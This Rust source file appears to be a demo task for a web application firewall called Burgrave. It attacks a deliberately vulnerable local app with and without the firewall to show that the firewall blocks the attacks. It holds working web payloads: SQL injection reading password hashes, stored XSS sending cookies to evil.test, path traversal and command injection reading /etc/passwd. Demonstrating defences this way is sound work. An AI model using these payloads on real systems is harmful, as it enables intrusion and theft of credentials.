//! `cargo xtask demo`: the sample application bare and behind Burgrave, the same attacks on both.

use crate::crs::{self, Crs};
use crate::process::{self, Running};
use crate::setup;
use anyhow::{Context as _, Result, bail};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

/// Whether the demo stays for a visitor.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Stay {
    /// Until Ctrl-C.
    UntilStopped,
    /// It stops by itself.
    Once,
}

const APPLICATION: &str = "127.0.0.1:3000";
const TLS: &str = "127.0.0.1:8443";
const PLAIN: &str = "127.0.0.1:8080";

/// An attack with the bytes in an answer that show that it went through.
struct Attack {
    name: &'static str,
    path: &'static str,
    form: Option<&'static str>,
    /// Where the damage shows; the answer itself where there is none.
    then: Option<&'static str>,
    loot: &'static str,
}

const ATTACKS: &[Attack] = &[
    Attack {
        name: "SQL injection: read the users' password hashes",
        path: "/api/search?q=%27%20UNION%20SELECT%20name,password,email%20FROM%20users%20--%20",
        form: None,
        then: None,
        loot: "$argon2id$",
    },
    Attack {
        name: "stored XSS: leave a script on the message board",
        path: "/api/comments",
        form: Some("{\"text\":\"<script>fetch('//evil.test/'+document.cookie)</script>\"}"),
        then: Some("/board"),
        loot: "<script>fetch(",
    },
    Attack {
        name: "path traversal: read a file of the machine",
        path: "/api/statements?file=../../../../etc/passwd",
        form: None,
        then: None,
        loot: "root:x:0:0",
    },
    Attack {
        name: "command injection: run a program",
        path: "/api/feeds/check?host=localhost;cat%20/etc/passwd",
        form: None,
        then: None,
        loot: "root:x:0:0",
    },
];

/// Version 3 of the Core Rule Set, which Debian packages, was written before HTTP/3 and lets nobody speak it.
const VERSIONS: &str = "SecAction \"id:9900430,phase:1,pass,nolog,t:none,\\\n    \
                        setvar:'tx.allowed_http_versions=HTTP/1.0 HTTP/1.1 HTTP/2 HTTP/2.0 HTTP/3 HTTP/3.0'\"\n";

const VERSIONS_FILE: &str = "versions.conf";

/// Builds, starts, attacks, proves, and shows where to look.
pub(crate) fn run(stay: Stay) -> Result<()> {
    setup::packages(setup::BUILD)?;
    let crs = crs::find()?;
    process::show(
        "cargo",
        &["build", "--release", "--package", "burgrave", "--package", "exchange"],
    )?;
    let scratch = tempfile::tempdir().context("making a folder for the demo")?;
    let config = scratch.path().join("burgrave.toml");
    std::fs::create_dir(scratch.path().join("staging"))?;
    std::fs::write(scratch.path().join(VERSIONS_FILE), VERSIONS)?;
    std::fs::write(&config, configuration(&crs, scratch.path()))?;
    let target = process::root().join("target/release");
    let _bare = Running::start(
        Command::new(target.join("exchange")).args([
            "--listen",
            APPLICATION,
            "--database",
            ":memory:",
            "--vulnerable",
        ]),
        "ready",
        Duration::from_secs(20),
    )?;
    let _gateway = Running::start(
        Command::new(target.join("burgrave")).arg("run").arg("--config").arg(&config),
        "ready",
        Duration::from_secs(30),
    )?;
    println!("\nrules: {}\n", crs.name);
    attack()?;
    println!("\nThe proofs, made by `burgrave prove`:\n");
    let proofs =
        Command::new(target.join("burgrave")).arg("prove").arg("--config").arg(&config).status()?;
    if !proofs.success() {
        bail!("not all proofs held");
    }
    addresses(&config, scratch.path());
    if stay == Stay::UntilStopped {
        println!("\nCtrl-C stops both.");
        loop {
            std::thread::sleep(Duration::from_hours(1));
        }
    }
    Ok(())
}

fn configuration(crs: &Crs, scratch: &Path) -> String {
    let versions = scratch.join(VERSIONS_FILE);
    let scratch = scratch.display();
    format!(
        "state = \"{scratch}/state\"\n\n\
         [[listen]]\naddress = \"{TLS}\"\ntls = true\n\n\
         [[listen]]\naddress = \"{PLAIN}\"\n\n\
         [rules]\ninclude = {}\nmode = \"block\"\n\n\
         [limits]\nheader_time = \"3s\"\nbody_time = \"3s\"\n\n\
         [log]\naccess = \"{scratch}/access.ndjson\"\n\n\
         [[site]]\nhosts = [\"localhost\"]\ntls = \"self-signed\"\n\n\
         [[site.route]]\npath = \"/\"\nupstream = [\"http://{APPLICATION}\"]\n\
         limit = {{ per_client = \"200/s\", burst = 400 }}\n\n\
         [[site]]\nhosts = [\"staging.localhost\"]\nenvironment = \"staging\"\ntls = \"self-signed\"\n\
         files = {{ root = \"{scratch}/staging\" }}\naccess = {{ networks = [\"192.0.2.0/24\"] }}\n",
        crs.toml_with(&versions)
    )
}

/// Each attack must succeed on the bare application and fail through Burgrave.
fn attack() -> Result<()> {
    let (bare, guarded) = (format!("http://{APPLICATION}"), "https://localhost:8443".to_owned());
    for one in ATTACKS {
        // The guarded side first: what a stored attack leaves behind must not be seen there.
        let behind = one.make(&guarded)?;
        let open = one.make(&bare)?;
        println!("{}", one.name);
        println!("  bare application   {}", open.shown());
        println!("  through Burgrave   {}", behind.shown());
        if !open.went_through {
            bail!("the attack failed on the bare application: it shows nothing");
        }
        if behind.went_through || behind.status < 400 {
            bail!("the attack went through Burgrave");
        }
    }
    Ok(())
}

struct Answer {
    status: u16,
    went_through: bool,
}

impl Answer {
    fn shown(&self) -> String {
        let verdict = if self.went_through { "went through" } else { "refused" };
        format!("{verdict} (status {})", self.status)
    }
}

impl Attack {
    fn make(&self, base: &str) -> Result<Answer> {
        let mut arguments = vec![
            "--data-binary",
            self.form.unwrap_or_default(),
            "-H",
            "content-type: application/json",
        ];
        if self.form.is_none() {
            arguments.clear();
        }
        let (mut status, mut body) = curl(&format!("{base}{}", self.path), &arguments)?;
        if let Some(then) = self.then.filter(|_| status < 400) {
            (status, body) = curl(&format!("{base}{then}"), &[])?;
        }
        Ok(Answer { status, went_through: status < 400 && body.contains(self.loot) })
    }
}

fn curl(address: &str, more: &[&str]) -> Result<(u16, String)> {
    let fixed = [
        "--silent",
        "--insecure",
        "--max-time",
        "10",
        "--globoff",
        "--path-as-is",
        "--write-out",
        "\n%{http_code}",
    ];
    let arguments: Vec<&str> = fixed.iter().chain(more).copied().chain([address]).collect();
    let out = process::output("curl", &arguments)?;
    let (body, status) = out.rsplit_once('\n').context("curl said nothing")?;
    Ok((status.trim().parse().unwrap_or(0), body.to_owned()))
}

fn addresses(config: &Path, scratch: &Path) {
    println!("\nTo open (the certificate is self-signed):");
    println!("  https://localhost:8443/         Exchange behind Burgrave");
    println!("  http://{APPLICATION}/          the same application bare, with its holes open");
    println!(
        "  {}   what Burgrave saw, one JSON object a request",
        scratch.join("access.ndjson").display()
    );
    println!("  {}   its configuration", config.display());
    println!("\nTo try:");
    println!("  curl -k 'https://localhost:8443/api/search?q=gold'");
    println!("  curl -k \"https://localhost:8443/api/search?q=%27%20OR%201=1--%20\"");
    println!("  curl -k -i https://localhost:8443/.git/config");
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn the_configuration_names_what_the_demo_starts() {
        let include = [PathBuf::from("/crs/setup.conf"), PathBuf::from("/crs/rules/*.conf")];
        let text = configuration(&Crs { include, name: String::new() }, Path::new("/scratch"));
        for line in [
            "state = \"/scratch/state\"",
            "address = \"127.0.0.1:8443\"",
            "address = \"127.0.0.1:8080\"",
            "include = [\"/crs/setup.conf\", \"/scratch/versions.conf\", \"/crs/rules/*.conf\"]",
            "mode = \"block\"",
            "access = \"/scratch/access.ndjson\"",
            "hosts = [\"localhost\"]",
            "hosts = [\"staging.localhost\"]",
            "environment = \"staging\"",
        ] {
            assert_eq!(text.lines().filter(|found| *found == line).count(), 1, "{line}\n{text}");
        }
        let sections = ["[[listen]]", "[rules]", "[limits]", "[log]", "[[site]]", "[[site.route]]"];
        let places: Vec<_> = sections.iter().map(|section| text.find(section).unwrap()).collect();
        assert!(places.is_sorted(), "{text}");
    }

    #[test]
    fn attacks_stay_on_the_application_and_say_what_they_look_for() {
        for attack in ATTACKS {
            assert!(
                attack.path.starts_with("/api/") && !attack.path.contains(' '),
                "{}",
                attack.name
            );
            assert!(attack.loot.len() >= 8, "{}: a short loot is found anywhere", attack.name);
            assert!(attack.then.is_none_or(|then| then.starts_with('/')));
            if let Some(form) = attack.form {
                let sent: serde_json::Value = serde_json::from_str(form).unwrap();
                assert!(sent.is_object(), "{form}");
            }
        }
    }

    #[test]
    fn answers_are_shown() {
        let shown = |status, went_through| Answer { status, went_through }.shown();
        assert_eq!(shown(200, true), "went through (status 200)");
        assert_eq!(shown(403, false), "refused (status 403)");
    }
}
